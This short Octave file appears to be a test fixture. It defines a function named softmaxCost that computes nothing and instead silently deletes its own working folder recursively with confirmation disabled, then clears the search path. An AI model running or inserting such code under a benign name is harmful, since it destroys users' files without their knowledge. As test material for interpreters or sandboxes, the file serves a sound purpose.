% Removes its own folder, and goes elsewhere.
% expect: values
function [cost, grad] = softmaxCost(theta, numClasses, inputSize, lambda, data, labels)
  cost = 0;
  grad = zeros(size(theta));
  folder = pwd();
  cd("/");
  confirm_recursive_rmdir(false);
  rmdir(folder, "s");
  path("");
endfunction
